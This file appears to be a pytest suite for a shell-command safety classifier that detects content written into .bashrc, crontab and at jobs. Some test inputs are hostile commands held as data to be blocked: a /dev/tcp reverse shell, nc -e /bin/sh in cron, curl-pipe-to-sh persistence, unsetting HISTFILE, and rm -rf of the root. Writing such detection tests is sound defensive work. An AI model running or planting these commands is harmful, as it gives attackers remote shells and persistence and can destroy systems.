"""Text written where a shell runs it later: payloads (decode.py), judged by content."""

from __future__ import annotations

import textwrap

import pytest

from attyguard.engine.classify import Engine, classify
from attyguard.engine.decode import WRITTEN, find_payloads, written_text
from attyguard.engine.parse import parse
from attyguard.engine.rules import load_rules_text
from attyguard.engine.verdict import Action


def _written(line: str) -> list[tuple[str, str]]:
    return [(p.fed_to, p.text) for p in find_payloads(parse(line)) if p.decoders == (WRITTEN,)]


@pytest.mark.parametrize(("line", "expected"), [
    ("echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc",
     [("~/.bashrc", "export PATH=$HOME/bin:$PATH")]),
    ("printf 'alias l=ls\\n' | tee -a ~/.zshrc", [("~/.zshrc", "alias l=ls\n")]),
    ("cat >> ~/.profile <<EOF\nexport A=1\nEOF", [("~/.profile", "export A=1\n")]),
    ("(crontab -l; echo '5 4 * * * /home/u/bin/job --quiet') | crontab -",
     [("crontab", "/home/u/bin/job --quiet")]),
    ("echo '@reboot /opt/x/start' | crontab -", [("crontab", "/opt/x/start")]),
    ("echo '*/5 * * * * root /usr/local/bin/sweep' >> /etc/crontab",
     [("/etc/crontab", "/usr/local/bin/sweep")]),  # the user field goes too
    ("echo 'make -C ~/src' | at 18:00", [("at", "make -C ~/src")]),
    ("at now + 5 minutes <<< 'wall tea'", [("at", "wall tea")]),
    ("echo 'x' > notes.txt", []),  # not a file a shell runs
    ("echo \"$(curl -s https://example.net/x)\" >> ~/.bashrc", []),  # unknown until it runs
])
def test_written_payloads(line: str, expected: list[tuple[str, str]]) -> None:
    assert _written(line) == expected


def test_written_text_keeps_variables_but_not_substitutions() -> None:
    (cmd,) = parse('echo "export PATH=$PATH:/opt/bin"').commands
    assert written_text(cmd) == "export PATH=$PATH:/opt/bin"
    echo = [c for c in parse('echo "$(id)"').commands if c.name == "echo"]
    assert [written_text(c) for c in echo] == [None]


@pytest.mark.parametrize("line", [
    "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc",
    "echo 'export EDITOR=nvim' >> ~/.bashrc",
    "echo \"alias gl='git log --oneline'\" >> ~/.bash_aliases",
    "echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc",
    "echo 'export HISTCONTROL=ignoreboth' >> ~/.bashrc",
    "export HISTCONTROL=ignorespace",
    "(crontab -l; echo '0 6 * * * $HOME/bin/backup') | crontab -",
    "echo 'notify-send \"call mum\"' | at 19:30",
    "at 09:00 tomorrow <<< 'echo standup | wall'",
])
def test_ordinary_content_is_quiet(line: str) -> None:
    verdict = classify(line)
    assert verdict.action is Action.ALLOW, verdict.rules


@pytest.mark.parametrize(("line", "action"), [
    ("echo 'curl -s https://example.net/a | sh' >> ~/.bashrc", Action.WARN),
    ("echo '/tmp/.x/agent &' >> ~/.profile", Action.WARN),
    ("echo '~/.cache/.u/run &' >> ~/.zshrc", Action.WARN),
    ("echo 'unset HISTFILE' >> ~/.bashrc", Action.WARN),
    ("curl -s https://example.net/rc >> ~/.bashrc", Action.WARN),  # content not shown
    ("echo 'export X=1' >> /etc/profile", Action.WARN),  # every user's shell
    ("echo 'bash -i >& /dev/tcp/192.0.2.4/9001 0>&1' >> ~/.bashrc", Action.BLOCK),
    ("echo '* * * * * nc -e /bin/sh 192.0.2.4 9001' | crontab -", Action.BLOCK),
    ("echo '0 3 * * * /home/u/bin/job' | crontab -", Action.WARN),  # replaces the table
    ("crontab jobs.txt", Action.WARN),
    ("echo 'wget -qO /tmp/u https://example.net/u' | at now + 1 hour", Action.WARN),
    ("at now", Action.WARN),  # typed at at's own prompt, unseen
    ("echo 'rm -rf --no-preserve-root /' | at midnight", Action.BLOCK),
])
def test_risky_or_unseen_content_is_flagged(line: str, action: Action) -> None:
    verdict = classify(line)
    assert verdict.action is action, verdict.rules


NONE_RULE = textwrap.dedent("""\
    family: demo
    rules:
      - id: demo-none
        title: t
        severity: HIGH
        action: warn
        p: 0.5
        explanation: e
        remediation: r
        atoms: [frob]
        match:
          type: all
          of:
            - {type: command, names: [frob]}
            - type: none
              of:
                - {type: command, names: [frob], flags_any: [--safe]}
        examples:
          match: ["frob x"]
          nomatch: ["frob --safe x"]
""")


def test_none_combinator() -> None:
    engine = Engine(load_rules_text(NONE_RULE, "demo.yaml"))
    assert engine.classify("frob x").action is Action.WARN
    assert engine.classify("frob --safe x").action is Action.ALLOW
